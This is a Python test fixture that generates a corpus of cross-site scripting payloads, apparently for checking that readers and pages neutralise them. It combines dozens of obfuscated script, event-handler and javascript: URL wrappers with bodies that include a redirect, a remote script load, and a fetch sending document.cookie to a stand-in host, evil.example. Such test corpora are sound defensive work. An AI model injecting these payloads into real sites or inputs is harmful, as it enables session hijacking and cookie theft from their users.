"""Markup that would run script, if anything let it: what readers, pages and the browser are held against."""

from __future__ import annotations

import itertools

__all__ = ["ATTACKS"]

_SCRIPTS = [
    "alert(1)",
    "window.stop()",
    "document.location='//evil.example'",
    "fetch('//evil.example/'+document.cookie)",
]
_FORMS = [
    "<script>{0}</script>", "<SCRIPT SRC=//evil.example/x.js>{0}</SCRIPT>", "<scr<script>ipt>{0}</scr</script>ipt>", "<script\x20type=text/javascript>{0}</script>",
    "<img src=x onerror={0}>", '<img src="x" onerror="{0}">', "<img src='javascript:{0}'>", "<img src=`javascript:{0}`>", '<img """><script>{0}</script>">',
    "<img src=/a.jpg style=\"background:url('javascript:{0}')\">", "<img lowsrc='javascript:{0}' src='data:text/html,{0}'>",
    "<a href='javascript:{0}'>go</a>", "<a href='JaVaScRiPt:{0}'>go</a>", "<a href=' &#14; javascript:{0}'>go</a>", "<a href='java\tscript:{0}'>go</a>",
    "<a href='java\nscript:{0}'>go</a>", "<a href='&#106;avascript:{0}'>go</a>", "<a href='vbscript:{0}'>go</a>", "<a href='data:text/html,<script>{0}</script>'>go</a>",
    "<a href='//evil.example\" onclick=\"{0}'>go</a>", "<a onmouseover=\"{0}\" href='/a'>go</a>", "<a href='/a' style='behavior:url(x)'>go</a>",
    "<svg onload={0}><script>{0}</script></svg>", "<svg><a xlink:href='javascript:{0}'><text>x</text></a></svg>", "<math><mi xlink:href='javascript:{0}'>x</mi></math>",
    "<iframe src='javascript:{0}'></iframe>", "<iframe srcdoc='<script>{0}</script>'></iframe>", "<object data='javascript:{0}'></object>", "<embed src='javascript:{0}'>",
    "<form action='javascript:{0}'><input type=submit></form>", "<button onclick='{0}'>x</button>", "<input onfocus={0} autofocus>", "<details open ontoggle={0}>x</details>",
    "<video onerror={0}><source src=x></video>", "<audio src=x onerror={0}>", "<marquee onstart={0}>x</marquee>", "<body onload={0}>", "<div style='width:expression({0})'>x</div>",
    "<style>*{{background:url('javascript:{0}')}}</style>", "<link rel=stylesheet href='javascript:{0}'>", "<meta http-equiv=refresh content='0;url=javascript:{0}'>",
    "<base href='javascript:{0}//'>", "<table background='javascript:{0}'><tr><td onclick='{0}'>a</td><td>b</td></tr></table>", "<!--<img src='--><img src=x onerror={0}//'>",
    "<![CDATA[<script>{0}</script>]]>", "<noscript><p title='</noscript><img src=x onerror={0}>'>", "<template><script>{0}</script></template>", "<xss onclick={0} tabindex=1>x</xss>",
    "&lt;script&gt;{0}&lt;/script&gt;", "<p title='\"><script>{0}</script>'>x</p>", "<a href='http://a/\"><script>{0}</script>'>go</a>", "<textarea><script>{0}</script></textarea>",
]  # fmt: skip
ATTACKS = [form.format(script) for form, script in itertools.product(_FORMS, _SCRIPTS)]
